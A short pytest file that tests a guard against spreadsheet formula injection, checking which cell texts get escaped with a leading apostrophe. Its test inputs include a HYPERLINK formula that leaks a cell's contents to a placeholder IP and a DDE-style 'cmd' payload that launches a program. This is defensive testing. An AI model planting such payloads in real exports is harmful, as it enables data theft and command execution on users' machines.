import pytest

from ayni.kernel import spreadsheets


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://192.0.2.1/?"&A1)',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\u00a0=1",
        "\ufeff=1",
        "＝1",
        "|calc",
        "-5 children",
    ],
)
def test_what_would_be_a_formula_is_a_text(text):
    assert spreadsheets.guarded(text) == f"'{text}"


@pytest.mark.parametrize("text", ["Fatima", "-5", "+5.25", "-5,25", "12 %", "a=b", "", "x-ray", "H00000001", "5-10"])
def test_what_is_none_stays(text):
    assert spreadsheets.guarded(text) == text


@pytest.mark.parametrize(("value", "text"), [(None, ""), (5, "5"), (-5.5, "-5.5")])
def test_values_that_are_no_texts(value, text):
    assert spreadsheets.guarded(value) == text
